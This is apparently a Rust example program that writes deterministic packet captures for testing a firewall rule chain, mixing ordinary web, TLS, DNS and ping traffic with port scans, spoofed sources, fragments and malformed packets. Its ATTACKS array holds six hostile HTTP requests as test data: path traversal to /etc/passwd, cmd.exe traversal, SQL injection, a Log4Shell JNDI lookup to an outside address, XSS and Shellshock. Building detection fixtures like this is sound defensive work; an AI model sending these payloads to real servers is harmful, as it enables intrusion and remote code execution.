//! Writes the captures that `chains/edge.chain` reads: `edge.pcap`, the packets from outside, and `edge-lan.pcap`, what
//! the servers answer. Always the same bytes.
//!
//! ```text
//! cargo run -p stdlib-nfs --example make_capture -- chains
//! ```

use std::{fs::File, io, net::IpAddr, path::Path, time::Duration};

use etherparse::{PacketBuilder, PacketBuilderStep, TcpHeader, VlanId};
use pcap_file::pcap::{PcapPacket, PcapWriter};

/// The web server, and the same over IPv6.
const WEB: &str = "203.0.113.9";
const WEB6: &str = "2001:db8:1::9";
const RESOLVER: &str = "203.0.113.53";
const OUTER_DNS: &str = "192.0.2.53";

const ROUTER_MAC: [u8; 6] = [0x02, 0, 0, 0, 0, 0x01];
const SERVER_MAC: [u8; 6] = [0x02, 0, 0, 0, 0, 0x09];

/// When the capture starts, in seconds since 1970, and how long it lasts in microseconds.
const START: u64 = 1_700_000_000;
const LENGTH: u64 = 10_000_000;

/// Web sessions of each kind.
const PLAIN_SESSIONS: usize = 150;
const TLS_SESSIONS: usize = 90;
/// Requests that hold a pattern of `chains/web.patterns`.
const ATTACKS: [&str; 6] = [
    "GET /../../../../etc/passwd HTTP/1.1\r\nHost: www.example.net\r\n\r\n",
    "GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n",
    "GET /item?id=1' OR '1'='1 HTTP/1.1\r\nHost: www.example.net\r\nUser-Agent: sqlmap/1.7\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: www.example.net\r\nX-Api-Version: ${jndi:ldap://198.51.100.66/a}\r\n\r\n",
    "POST /comment HTTP/1.1\r\nHost: www.example.net\r\nContent-Length: 32\r\n\r\ntext=<script>alert(1)</script>&x",
    "GET /cgi-bin/status HTTP/1.0\r\nUser-Agent: () { :; }; /bin/id\r\n\r\n",
];
const PATHS: [&str; 6] = [
    "/",
    "/index.html",
    "/style.css",
    "/img/logo.png",
    "/news?page=2",
    "/api/v1/items",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Side {
    Wan,
    Lan,
}

/// A packet on its way, at a time in microseconds from the start.
#[derive(Debug, Clone)]
pub struct Event {
    pub at: u64,
    pub side: Side,
    pub packet: Vec<u8>,
}

type Failure = Box<dyn std::error::Error>;

fn main() -> Result<(), Failure> {
    let folder = std::env::args()
        .nth(1)
        .ok_or("give the folder to write into, e.g. chains")?;
    let events = traffic()?;
    for (side, name) in [(Side::Wan, "edge.pcap"), (Side::Lan, "edge-lan.pcap")] {
        let path = Path::new(&folder).join(name);
        let packets = write(&events, side, File::create(&path)?)?;
        println!("{}: {packets} packets", path.display());
    }
    Ok(())
}

/// Writes one side's packets as a capture; returns how many.
pub fn write(events: &[Event], side: Side, out: impl io::Write) -> Result<usize, Failure> {
    let mut writer = PcapWriter::new(out)?;
    let mut written = 0;
    for event in events.iter().filter(|e| e.side == side) {
        let at = Duration::from_secs(START) + Duration::from_micros(event.at);
        writer.write_packet(&PcapPacket::new(at, event.packet.len() as u32, &event.packet))?;
        written += 1;
    }
    Ok(written)
}

/// All packets, in the order of time.
pub fn traffic() -> Result<Vec<Event>, Failure> {
    let mut t = Traffic {
        events: Vec::new(),
        seed: 2026,
    };
    for i in 0..PLAIN_SESSIONS {
        let request = match i % 9 {
            4 => ATTACKS[(i / 9) % ATTACKS.len()].to_owned(),
            _ => t.request(),
        };
        t.session(i, 80, request.as_bytes(), i % 5 == 0, i % 11 == 7)?;
    }
    for i in 0..TLS_SESSIONS {
        let hello = t.client_hello();
        t.session(1000 + i, 443, &hello, i % 4 == 0, false)?;
    }
    (0..260).try_for_each(|i| t.dns(i))?;
    (0..60).try_for_each(|i| t.ping(i))?;
    (0..120).try_for_each(|i| t.scan(i))?;
    (0..8).try_for_each(|i| t.large_answer(i))?;
    (0..30).for_each(|i| t.link_local(i));
    (0..16).try_for_each(|i| t.broken(i))?;
    t.events.sort_by_key(|e| e.at);
    Ok(t.events)
}

struct Traffic {
    events: Vec<Event>,
    seed: u64,
}

impl Traffic {
    /// SplitMix64 (Steele, Lea, Flood 2014).
    fn random(&mut self, below: u64) -> u64 {
        self.seed = self.seed.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let z = (self.seed ^ (self.seed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (z ^ (z >> 31)) % below
    }

    fn bytes(&mut self, n: usize) -> Vec<u8> {
        // Upper halves only, so that no pattern, which is ASCII, turns up by chance.
        (0..n).map(|_| 0x80 | self.random(128) as u8).collect()
    }

    fn push(&mut self, at: u64, side: Side, packet: Vec<u8>) {
        self.events.push(Event { at, side, packet });
    }

    fn request(&mut self) -> String {
        let path = PATHS[self.random(PATHS.len() as u64) as usize];
        format!(
            "GET {path} HTTP/1.1\r\nHost: www.example.net\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\
             Accept: text/html,*/*;q=0.8\r\nAccept-Language: en\r\nConnection: close\r\n\r\n"
        )
    }

    /// A TLS 1.2 ClientHello as far as an observer looks: record and handshake headers, random, one cipher, server name.
    fn client_hello(&mut self) -> Vec<u8> {
        let name = b"www.example.net";
        let n = name.len() as u8;
        let mut extension = vec![0, 0, 0, n + 5, 0, n + 3, 0, 0, n];
        extension.extend(name);
        let mut body = vec![3, 3];
        body.extend(self.bytes(32));
        body.extend([0, 0, 2, 0x13, 0x01, 1, 0, 0, extension.len() as u8]);
        body.extend(extension);
        let length = body.len() as u8;
        [&[0x16, 3, 1, 0, length + 4, 1, 0, 0, length][..], &body].concat()
    }

    /// A whole TCP session from a client's SYN to its last ACK, both directions.
    fn session(
        &mut self,
        number: usize,
        port: u16,
        request: &[u8],
        ipv6: bool,
        in_vlan: bool,
    ) -> Result<(), Failure> {
        let client = match ipv6 {
            true => format!("2001:db8:100::{:x}", 0x10 + number),
            false => format!("198.51.100.{}", 1 + number % 60),
        };
        let server = if ipv6 { WEB6 } else { WEB };
        let vlan = in_vlan.then_some(20);
        let client_port = 30_000 + number as u16;
        let mut at = self.random(LENGTH - 500_000);
        let (mut seq, mut ack) = (self.random(1 << 32) as u32, self.random(1 << 32) as u32);
        let mut answers = Vec::new();
        for _ in 0..=self.random(3) {
            let length = 60 + self.random(1300) as usize;
            answers.push(self.bytes(length));
        }
        let request_length = request.len() as u32;
        let mut step = |t: &mut Self, side, seq: u32, ack: u32, flags: &str, payload: &[u8]| {
            at += 200 + t.random(20_000);
            let (from, to) = match side {
                Side::Wan => ((client.as_str(), client_port), (server, port)),
                Side::Lan => ((server, port), (client.as_str(), client_port)),
            };
            let packet = tcp(side, vlan, from, to, seq, ack, flags, payload)?;
            t.push(at, side, packet);
            Ok::<(), Failure>(())
        };
        step(self, Side::Wan, seq, 0, "S", &[])?;
        step(self, Side::Lan, ack, seq.wrapping_add(1), "SA", &[])?;
        (seq, ack) = (seq.wrapping_add(1), ack.wrapping_add(1));
        step(self, Side::Wan, seq, ack, "A", &[])?;
        step(self, Side::Wan, seq, ack, "PA", request)?;
        seq = seq.wrapping_add(request_length);
        for answer in &answers {
            step(self, Side::Lan, ack, seq, "PA", answer)?;
            ack = ack.wrapping_add(answer.len() as u32);
            step(self, Side::Wan, seq, ack, "A", &[])?;
        }
        step(self, Side::Lan, ack, seq, "FA", &[])?;
        step(self, Side::Wan, seq, ack.wrapping_add(1), "FA", &[])?;
        step(
            self,
            Side::Lan,
            ack.wrapping_add(1),
            seq.wrapping_add(1),
            "A",
            &[],
        )
    }

    /// A question to the resolver and its answer, or an answer from outside.
    fn dns(&mut self, i: usize) -> Result<(), Failure> {
        let at = self.random(LENGTH);
        let question = dns_message(self.random(1 << 16) as u16, i, false);
        let client = format!("198.51.100.{}", 100 + i % 50);
        let from = (client.as_str(), 20_000 + i as u16);
        let answer = dns_message(i as u16, i, true);
        if i.is_multiple_of(3) {
            self.push(
                at,
                Side::Wan,
                udp(Side::Wan, (OUTER_DNS, 53), (RESOLVER, 5300), &answer)?,
            );
        } else {
            self.push(at, Side::Wan, udp(Side::Wan, from, (RESOLVER, 53), &question)?);
            self.push(
                at + 900,
                Side::Lan,
                udp(Side::Lan, (RESOLVER, 53), from, &answer)?,
            );
        }
        Ok(())
    }

    fn ping(&mut self, i: u16) -> Result<(), Failure> {
        let at = u64::from(i) * 150_000;
        for (side, delay) in [(Side::Wan, 0), (Side::Lan, 400)] {
            let mut packet = Vec::new();
            let data: Vec<u8> = (0x10..0x40).collect();
            let request = side == Side::Wan;
            if i.is_multiple_of(3) {
                let step = addressed(side, None, "2001:db8:100::7", WEB6, request)?;
                let echo = if request {
                    step.icmpv6_echo_request(7, i)
                } else {
                    step.icmpv6_echo_reply(7, i)
                };
                echo.write(&mut packet, &data)?;
            } else {
                let step = addressed(side, None, "198.51.100.7", WEB, request)?;
                let echo = if request {
                    step.icmpv4_echo_request(7, i)
                } else {
                    step.icmpv4_echo_reply(7, i)
                };
                echo.write(&mut packet, &data)?;
            }
            self.push(at + delay, side, packet);
        }
        Ok(())
    }

    /// Traffic for a firewall to stop: log-ins, spoofed sources, impossible flags, services that nobody offers.
    fn scan(&mut self, i: usize) -> Result<(), Failure> {
        let at = self.random(LENGTH);
        let client = format!("198.51.100.{}", 200 + i % 20);
        let from = (client.as_str(), 50_000 + i as u16);
        let packet = match i % 6 {
            0 => tcp(Side::Wan, None, from, (WEB, 22), i as u32, 0, "S", &[])?,
            1 => tcp(Side::Wan, None, from, (WEB, 23), i as u32, 0, "S", &[])?,
            2 => tcp(
                Side::Wan,
                None,
                ("10.66.0.1", 4444),
                (WEB, 80),
                i as u32,
                0,
                "S",
                &[],
            )?,
            3 => tcp(Side::Wan, None, from, (WEB, 80), i as u32, 0, "SF", &[])?,
            4 => udp(Side::Wan, from, (WEB, 137), &netbios_status())?,
            _ => tcp(
                Side::Wan,
                None,
                ("2001:db8:bad::1", 4444),
                (WEB6, 443),
                i as u32,
                0,
                "S",
                &[],
            )?,
        };
        self.push(at, Side::Wan, packet);
        Ok(())
    }

    /// A DNS answer of 2200 bytes in two fragments.
    fn large_answer(&mut self, i: usize) -> Result<(), Failure> {
        let at = self.random(LENGTH);
        let mut payload = dns_message(i as u16, i, true);
        payload.extend(self.bytes(2200 - payload.len()));
        let whole = udp(Side::Wan, (OUTER_DNS, 53), (RESOLVER, 5300), &payload)?;
        let (header, data) = whole[14..].split_at(20);
        for (part, offset, more) in [(&data[..1480], 0u16, true), (&data[1480..], 1480, false)] {
            let mut ip = etherparse::Ipv4Header::from_slice(header)?.0;
            ip.identification = 0x4000 + i as u16;
            ip.dont_fragment = false;
            ip.more_fragments = more;
            ip.fragment_offset = etherparse::IpFragOffset::try_new(offset / 8)?;
            ip.total_len = 20 + part.len() as u16;
            ip.header_checksum = ip.calc_header_checksum();
            let packet = [&whole[..14], &ip.to_bytes(), part].concat();
            self.push(at + u64::from(offset / 100), Side::Wan, packet);
        }
        Ok(())
    }

    /// ARP requests, and spanning-tree frames, which are 802.3.
    fn link_local(&mut self, i: u8) {
        let at = u64::from(i) * 330_000;
        let mut arp = [
            &[0xff; 6][..],
            &ROUTER_MAC,
            &[8, 6, 0, 1, 8, 0, 6, 4, 0, 1],
            &ROUTER_MAC,
        ]
        .concat();
        arp.extend([203, 0, 113, 1, 0, 0, 0, 0, 0, 0, 203, 0, 113, 9 + i % 2 * 44]);
        arp.resize(60, 0);
        self.push(at, Side::Wan, arp);
        if i.is_multiple_of(5) {
            let mut stp = [
                &[0x01, 0x80, 0xc2, 0, 0, 0][..],
                &ROUTER_MAC,
                &[0, 38, 0x42, 0x42, 3],
            ]
            .concat();
            stp.resize(60, 0);
            self.push(at + 1000, Side::Wan, stp);
        }
    }

    /// Packets that are cut short or contradict themselves.
    fn broken(&mut self, i: usize) -> Result<(), Failure> {
        let at = self.random(LENGTH);
        let mut packet = tcp(
            Side::Wan,
            None,
            ("198.51.100.9", 999),
            (WEB, 80),
            1,
            1,
            "PA",
            b"GET / HTTP/1.0\r\n\r\n",
        )?;
        match i % 6 {
            0 => packet.truncate(30),
            1 => packet.truncate(44),
            2 => packet[14] = 0x75,
            3 => packet[14] = 0x43,
            4 => packet[46] = 0xf0,
            _ => packet[16..18].copy_from_slice(&9000u16.to_be_bytes()),
        }
        self.push(at, Side::Wan, packet);
        Ok(())
    }
}

/// A question for `host<i>.example.net`, or its answer with one address.
fn dns_message(id: u16, i: usize, answer: bool) -> Vec<u8> {
    let mut message = id.to_be_bytes().to_vec();
    message.extend(if answer {
        [0x81, 0x80, 0, 1, 0, 1]
    } else {
        [1, 0, 0, 1, 0, 0]
    });
    message.extend([0, 0, 0, 0]);
    for label in [format!("host{i}").as_str(), "example", "net", ""] {
        message.push(label.len() as u8);
        message.extend(label.as_bytes());
    }
    message.extend([0, 1, 0, 1]);
    if answer {
        message.extend([
            0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, 203, 0, 113, i as u8,
        ]);
    }
    message
}

/// A NetBIOS node status question, as Windows scanners send it.
fn netbios_status() -> Vec<u8> {
    let header = [0x80, 0x94, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    [&header[..], b" CK", &[b'A'; 30], &[0, 0, 0x21, 0, 1]].concat()
}

/// Ethernet and IP between the router and the server; `forward` is from `a` to `b`.
fn addressed(
    side: Side,
    vlan: Option<u16>,
    a: &str,
    b: &str,
    forward: bool,
) -> Result<PacketBuilderStep<etherparse::IpHeaders>, Failure> {
    let (from, to) = if forward { (a, b) } else { (b, a) };
    let link = match side {
        Side::Wan => PacketBuilder::ethernet2(ROUTER_MAC, SERVER_MAC),
        Side::Lan => PacketBuilder::ethernet2(SERVER_MAC, ROUTER_MAC),
    };
    let tag = vlan.map(VlanId::try_new).transpose()?;
    let (from, to): (IpAddr, IpAddr) = (from.parse()?, to.parse()?);
    Ok(match (from, to, tag) {
        (IpAddr::V4(s), IpAddr::V4(d), None) => link.ipv4(s.octets(), d.octets(), 57),
        (IpAddr::V6(s), IpAddr::V6(d), None) => link.ipv6(s.octets(), d.octets(), 57),
        (IpAddr::V4(s), IpAddr::V4(d), Some(tag)) => link.single_vlan(tag).ipv4(s.octets(), d.octets(), 57),
        (IpAddr::V6(s), IpAddr::V6(d), Some(tag)) => link.single_vlan(tag).ipv6(s.octets(), d.octets(), 57),
        _ => return Err("both ends must be of one family".into()),
    })
}

/// `flags` in tcpdump's letters: `S`, `A`, `P`, `F`.
#[allow(clippy::too_many_arguments, reason = "a TCP segment has as many")]
fn tcp(
    side: Side,
    vlan: Option<u16>,
    from: (&str, u16),
    to: (&str, u16),
    seq: u32,
    ack: u32,
    flags: &str,
    payload: &[u8],
) -> Result<Vec<u8>, Failure> {
    let mut header = TcpHeader::new(from.1, to.1, seq, 64_240);
    header.syn = flags.contains('S');
    header.fin = flags.contains('F');
    header.psh = flags.contains('P');
    header.ack = flags.contains('A');
    header.acknowledgment_number = ack;
    if header.syn {
        header.set_options(&[etherparse::TcpOptionElement::MaximumSegmentSize(1460)])?;
    }
    let mut packet = Vec::new();
    addressed(side, vlan, from.0, to.0, true)?
        .tcp_header(header)
        .write(&mut packet, payload)?;
    Ok(packet)
}

fn udp(side: Side, from: (&str, u16), to: (&str, u16), payload: &[u8]) -> Result<Vec<u8>, Failure> {
    let mut packet = Vec::new();
    addressed(side, None, from.0, to.0, true)?
        .udp(from.1, to.1)
        .write(&mut packet, payload)?;
    Ok(packet)
}
